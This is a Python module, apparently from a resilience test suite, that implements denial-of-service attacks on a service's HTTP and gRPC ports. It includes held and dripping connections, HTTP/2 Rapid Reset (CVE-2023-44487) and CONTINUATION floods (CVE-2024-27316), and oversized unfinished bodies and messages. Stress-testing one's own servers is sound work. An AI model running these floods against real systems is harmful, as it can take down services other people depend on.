"""Connections that are held, callers that leave, and floods of HTTP/2 frames."""

from __future__ import annotations

import socket
import struct
import time
from collections.abc import Callable, Iterator
from contextlib import ExitStack, suppress

import grpc

from .frames import CALL, PREFACE, SINGLE, frame, head_of, literal, message
from .siege import Siege


def leave(siege: Siege) -> None:
    """Stream the most that is allowed, and hang up."""
    metadata = (("authorization", f"token {siege.token}"),)
    with grpc.insecure_channel(siege.flow.host.removeprefix("grpc://")) as channel:
        content = message(b"\x0a\x00" * 4096)
        call = channel.stream_stream(CALL)((content for _ in range(200)), metadata=metadata)
        time.sleep(1)
        call.cancel()


def hold(address: tuple[str, int], greeting: bytes, drip: bytes) -> None:
    """Hold 200 connections for some seconds, with a greeting each and then a byte now and then."""
    with ExitStack() as held:
        connections = []
        for _ in range(200):
            with suppress(OSError):
                connections.append(held.enter_context(socket.create_connection(address, timeout=5)))
        for connection in connections:
            with suppress(OSError):
                connection.sendall(greeting)
        for _ in range(12 if drip else 1):
            time.sleep(1)
            for connection in connections:
                with suppress(OSError):
                    connection.sendall(drip)


def flood(siege: Siege, content: Iterator[bytes]) -> None:
    """Send frames to the gRPC port until it hangs up or they end."""
    with suppress(OSError), socket.create_connection(siege.grpc_address, timeout=30) as connection:
        connection.sendall(PREFACE)
        for frames in content:
            connection.sendall(frames)


def resets(siege: Siege) -> None:
    """Open calls and take them back at once (CVE-2023-44487)."""
    head = head_of(CALL)
    flood(siege, (frame(1, 4, 2 * n + 1, head) + frame(3, 0, 2 * n + 1, b"\0\0\0\x08") for n in range(50_000)))


def continuations(siege: Siege, admitted: bytes = b"") -> None:
    """Send headers that do not end (CVE-2024-27316).

    Args:
        admitted: frames of a call with a token, which stays open.
    """

    def frames() -> Iterator[bytes]:
        yield admitted + frame(1, 0, 3, head_of(CALL))
        for _ in range(5000):
            yield frame(9, 0, 3, literal(b"x" * 100, b"y" * 100) * 50)

    flood(siege, frames())


def continuations_beside_a_call(siege: Siege) -> None:
    """Send headers that do not end, on a connection with an open call."""
    token = literal(b"authorization", f"token {siege.token}".encode())
    continuations(siege, frame(1, 4, 1, head_of(CALL) + token))


def slow_bodies(siege: Siege) -> None:
    """Send most of 20 bodies of 16 MiB, and wait."""
    head = f"POST /encode HTTP/1.1\r\nHost: x\r\nAuthorization: token {siege.token}\r\nContent-Length: {2**24}\r\n\r\n"
    with ExitStack() as held:
        for _ in range(20):
            with suppress(OSError):
                connection = held.enter_context(socket.create_connection(siege.http_address, timeout=1))
                connection.sendall(head.encode() + b" " * (2**24 - 1))
        time.sleep(2)


def unread_messages(siege: Siege) -> None:
    """Send most of 30 messages of 16 MiB without a token, on as many connections, and wait."""

    def content() -> bytes:
        return b"\x00" + struct.pack(">I", 2**24) + b"x" * 16000

    head = head_of(SINGLE)
    with ExitStack() as held:
        for _ in range(30):
            with suppress(OSError):
                connection = held.enter_context(socket.create_connection(siege.grpc_address, timeout=1))
                connection.sendall(PREFACE + frame(1, 4, 1, head) + frame(0, 0, 1, content()))
                for _ in range(1000):
                    connection.sendall(frame(0, 0, 1, b"x" * 16000))
        time.sleep(2)


def attacks() -> dict[str, Callable[[Siege], None]]:
    """Return every way by name."""
    return {
        "callers that leave": leave,
        "half-open HTTP": lambda siege: hold(siege.http_address, b"POST /encode HTTP/1.1\r\nHost: x\r\n", b"X"),
        "idle gRPC": lambda siege: hold(siege.grpc_address, b"", b""),
        "bodies that do not end": slow_bodies,
        "gRPC messages without a token": unread_messages,
        "resets": resets,
        "continuations": continuations,
        "continuations beside a call": continuations_beside_a_call,
    }
